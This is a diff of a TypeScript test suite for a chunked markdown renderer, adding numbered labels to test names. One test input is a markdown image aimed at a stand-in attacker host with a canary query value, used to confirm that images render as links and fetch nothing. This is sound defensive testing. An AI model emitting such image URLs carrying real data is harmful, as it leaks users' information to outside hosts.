@@ -12,7 +12,7 @@ function render(text: string, size = text.length) {
   return root
 }
 
-describe.each([1, 3, 10_000])('markdown in pieces of %i', (size) => {
+describe.each([1, 3, 10_000])('[1.14] markdown in pieces of %i', (size) => {
   test('marks, lists, headings and tables', () => {
     const root = render('# Top\n\nSome **bold** text\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n', size)
     expect(root.querySelector('h2.h1')?.textContent).toBe('Top')
@@ -50,7 +50,7 @@ describe.each([1, 3, 10_000])('markdown in pieces of %i', (size) => {
     expect(root.textContent).toContain(text.slice(0, 8))
   })
 
-  test('an image becomes a link with its text and fetches nothing', () => {
+  test('[1.15] an image becomes a link with its text and fetches nothing', () => {
     const root = render('![a chart](https://evil.example/?d=CANARY)', size)
     expect(root.querySelector('img,[src]')).toBeNull()
     const link = root.querySelector('a')
